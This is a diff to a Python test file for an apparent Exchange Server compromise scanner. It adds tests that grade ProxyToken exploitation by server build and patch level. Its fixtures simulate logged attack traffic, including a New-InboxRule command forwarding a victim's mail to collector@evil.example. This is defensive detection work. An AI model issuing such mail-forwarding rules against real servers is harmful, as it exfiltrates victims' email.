@@ -311,7 +311,7 @@ def test_proxylogon_241_through_the_ssrf_is_succeeded(tmp_path: Path) -> None:
     assert result["verdict"] == "compromised"
 
 
-def _proxytoken_host(tmp_path: Path, name: str, with_rule: bool) -> Path:
+def _proxytoken_host(tmp_path: Path, name: str, with_rule: bool, build: str = "15.02.0858.005") -> Path:
     host = tmp_path / name
     write(host, f"{IIS_DIR}/u_ex210815.log", iis("2021-08-15", [
         ("10:00:00", "POST", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject", "203.0.113.9",
@@ -324,7 +324,7 @@ def _proxytoken_host(tmp_path: Path, name: str, with_rule: bool) -> Path:
                     "/ecp/RulesEditor/InboxRules.svc/NewObject,POST,200,New-InboxRule,88,"
                     "S:CMD=New-InboxRule.Mailbox=victim@contoso.com;Name=.;ForwardTo=collector@evil.example,")
     write(host, f"{V15}/Logging/ECP/Server/ECPServer2021081509-1.LOG",
-          "#Software: Microsoft Exchange Server\r\n#Version: 15.02.0858.005\r\n#Log-type: ECP Server Logs\r\n"
+          f"#Software: Microsoft Exchange Server\r\n#Version: {build}\r\n#Log-type: ECP Server Logs\r\n"
           f"#Date: 2021-08-15T09:00:00.000Z\r\n#Fields: {ECP_FIELDS}\r\n" + "\r\n".join(rows) + "\r\n")
     return host
 
@@ -335,6 +335,7 @@ def test_proxytoken_succeeded_when_the_inbox_rule_is_logged(tmp_path: Path) -> N
     assert request["outcome"] == "succeeded" and request["severity"] == "critical"
     assert request["attributes"]["forward_to"] == ["collector@evil.example"]
     assert request["attributes"]["inbox_rule"] == ["."]
+    assert request["attributes"]["exposure"] == ["exposed"]  # CU9 RTM: ProxyToken open then
     assert "collector@evil.example" in request["description"]
     [rule] = by_rule(findings, "EXH-PT-ECP-INBOX-RULE-FORWARD")
     assert rule["outcome"] == "confirmed"
@@ -345,4 +346,12 @@ def test_proxytoken_without_the_inbox_rule_is_an_attempt(tmp_path: Path) -> None
     result, findings = scan(tmp_path, _proxytoken_host(tmp_path, "ex30", with_rule=False))
     [request] = by_rule(findings, "EXH-PT-IIS-ECP-SECURITYTOKEN")
     assert request["outcome"] == "attempted" and "no inbox rule it created is logged" in request["description"]
+    assert result["verdict"] == "exploitation attempted"
+
+
+def test_proxytoken_on_a_build_already_patched_is_an_attempt(tmp_path: Path) -> None:
+    host = _proxytoken_host(tmp_path, "ex32", with_rule=True, build="15.02.0922.013")  # CU10 Jul21SU
+    result, findings = scan(tmp_path, host)
+    [request] = by_rule(findings, "EXH-PT-IIS-ECP-SECURITYTOKEN")
+    assert request["outcome"] == "attempted" and request["attributes"]["exposure"] == ["patched"]
     assert result["verdict"] == "exploitation attempted"
